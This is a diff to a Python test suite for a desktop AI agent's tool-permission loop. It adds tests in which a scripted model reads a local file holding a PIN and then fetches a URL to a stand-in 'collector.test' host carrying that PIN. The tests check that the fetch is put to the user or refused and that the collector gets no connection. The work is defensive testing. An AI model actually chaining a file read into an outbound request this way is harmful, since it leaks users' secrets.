@@ -18,7 +18,7 @@ from desktop_app.agent.events import (
     TurnStart,
 )
 from desktop_app.agent.loop import DENIED
-from desktop_app.agent.tools import ToolOutcome
+from desktop_app.agent.tools import ToolContext, ToolOutcome
 from desktop_app.generation.prompt import Prompt
 from desktop_app.generation.states import GenerationState
 from desktop_app.simulator.scenarios import Scenario
@@ -27,6 +27,9 @@ from desktop_app.store.database import Database
 from desktop_app.store.ledger import OperationStatus
 from tests.agent.harness import AgentHarness, ScriptedPerson
 from tests.net.helpers import queue
+from tests.net.loopback_web import network_guard, resolver, webs
+
+__all__ = ["network_guard", "resolver"]  # fixtures, used by name
 
 WIRES = ["openai-chat", "openai-responses", "anthropic", "gemini"]
 FINAL = Script(answer="Listo: el fichero está escrito.")
@@ -246,7 +249,8 @@ def test_read_only_tools_may_run_without_asking(harness, simulator):
         ScriptedCall(name="read_file", arguments={"path": "hola.txt"}),))  # fmt: skip
     model = queue(simulator, Scenario(script=reader), Scenario(script=FINAL))
     person = ScriptedPerson()
-    result, events = harness.run(harness.loop("openai-chat", model, person), Prompt.single("x"))
+    loop = harness.loop("openai-chat", model, person, allow_read_only_without_asking=True)
+    result, events = harness.run(loop, Prompt.single("x"))
     assert result.status == "completed" and person.asked == []
     (end,) = [e for e in events if isinstance(e, ToolExecutionEnd)]
     assert "contenido" in end.output
@@ -290,3 +294,118 @@ def test_the_session_end_says_why_as_a_code(harness, simulator, scenario, reason
     assert (end.reason, end.code) == (reason, code) and result.code == code
     if scenario.error_message:
         assert scenario.error_message in end.message
+
+
+# -- asking first, and what "read-only" does not cover ----------------------------------------
+
+
+def reads_then_sends(url: str) -> tuple[Scenario, Scenario, Scenario]:
+    """The model of finding 1: it reads a local file, then puts its content in a URL."""
+    read = ScriptedCall(name="read_file", arguments={"path": "pin.txt"}, call_id="call_r")
+    send = ScriptedCall(name="fetch_url", arguments={"url": url}, call_id="call_f")
+    return (
+        Scenario(script=Script(answer="", finish="tool_calls", tool_calls=(read,))),
+        Scenario(script=Script(answer="", finish="tool_calls", tool_calls=(send,))),
+        Scenario(script=FINAL),
+    )
+
+
+def test_a_new_loop_asks_before_every_action(harness, simulator):
+    (harness.workspace / "hola.txt").write_text("contenido", encoding="utf-8")
+    read = ScriptedCall(name="read_file", arguments={"path": "hola.txt"})
+    reader = Script(answer="", finish="tool_calls", tool_calls=(read,))
+    model = queue(simulator, Scenario(script=reader), Scenario(script=FINAL))
+    person = ScriptedPerson()  # says no
+    result, events = harness.run(harness.loop("openai-chat", model, person), Prompt.single("x"))
+    assert [request.tool_name for request in person.asked] == ["read_file"]
+    (end,) = [e for e in events if isinstance(e, ToolExecutionEnd)]
+    assert end.output == DENIED and harness.executor.runs == 0
+
+
+@pytest.fixture
+def collector(harness, resolver, network_guard):
+    """A local service the model should not reach, behind a name that resolves to it."""
+    with webs("127.0.0.3") as (server,):
+        resolver.answers["collector.test"] = [["127.0.0.3"]]
+        harness.registry.context = ToolContext(workspace=harness.workspace, resolver=resolver)
+        (harness.workspace / "pin.txt").write_text("PIN 9876", encoding="utf-8")
+        yield server
+
+
+def test_reading_a_file_and_sending_it_off_is_put_to_the_person(harness, simulator, collector):
+    url = f"http://collector.test:{collector.port}/collect?d=PIN%209876"
+    model = queue(simulator, *reads_then_sends(url))
+    person = ScriptedPerson()  # says no
+    loop = harness.loop("openai-chat", model, person, allow_read_only_without_asking=True)
+    result, events = harness.run(loop, Prompt.single("x"))
+    # Reading stays on this computer and was allowed without asking; the fetch was asked.
+    assert [request.tool_name for request in person.asked] == ["fetch_url"]
+    assert person.asked[0].description == f"Fetch {url} (GET)"
+    ends = {e.call_id: e for e in events if isinstance(e, ToolExecutionEnd)}
+    assert "PIN 9876" in ends["call_r"].output and ends["call_f"].output == DENIED
+    assert collector.connections == 0
+
+
+def test_an_allowed_fetch_to_a_local_service_is_still_refused(
+    harness, simulator, collector, network_guard
+):
+    url = f"http://collector.test:{collector.port}/collect?d=PIN%209876"
+    model = queue(simulator, *reads_then_sends(url))
+    person = ScriptedPerson([Decision.ALLOW_ONCE, Decision.ALLOW_ONCE])
+    result, events = harness.run(harness.loop("openai-chat", model, person), Prompt.single("x"))
+    assert [request.tool_name for request in person.asked] == ["read_file", "fetch_url"]
+    ends = {e.call_id: e for e in events if isinstance(e, ToolExecutionEnd)}
+    assert ends["call_f"].error
+    assert "127.0.0.3 (the address of collector.test) is this computer" in ends["call_f"].output
+    assert collector.connections == 0 and network_guard.blocked == []
+
+
+class PeekTool:
+    """Read-only, and silent on whether its calls leave the computer."""
+
+    name = "peek"
+    summary = "Looks at something."
+    schema = {"type": "object", "properties": {}}
+    read_only = True
+
+    def check(self, arguments, context):
+        pass
+
+    def describe(self, arguments, context):
+        return "Peek"
+
+    async def run(self, arguments, context):
+        return ToolOutcome("seen")
+
+    def observe(self, arguments, context):
+        return None
+
+
+def test_a_read_only_tool_that_does_not_say_it_stays_here_is_asked(harness, simulator):
+    harness.registry.add(PeekTool())
+    call = ScriptedCall(name="peek", arguments={})
+    peek = Script(answer="", finish="tool_calls", tool_calls=(call,))
+    model = queue(simulator, Scenario(script=peek), Scenario(script=FINAL))
+    person = ScriptedPerson()
+    loop = harness.loop("openai-chat", model, person, allow_read_only_without_asking=True)
+    harness.run(loop, Prompt.single("x"))
+    assert [request.tool_name for request in person.asked] == ["peek"]
+    assert harness.executor.runs == 0
+
+
+class SilentFailure(PeekTool):
+    name = "silent"
+
+    async def run(self, arguments, context):
+        raise AssertionError  # no message at all, as some codecs raise
+
+
+def test_a_tool_failing_without_a_message_is_still_reported_in_words(harness, simulator):
+    harness.registry.add(SilentFailure())
+    call = ScriptedCall(name="silent", arguments={})
+    failing = Script(answer="", finish="tool_calls", tool_calls=(call,))
+    model = queue(simulator, Scenario(script=failing), Scenario(script=FINAL))
+    person = ScriptedPerson([Decision.ALLOW_ONCE])
+    _, events = harness.run(harness.loop("openai-chat", model, person), Prompt.single("x"))
+    (end,) = [e for e in events if isinstance(e, ToolExecutionEnd)]
+    assert end.error and end.output == "The tool failed: AssertionError"
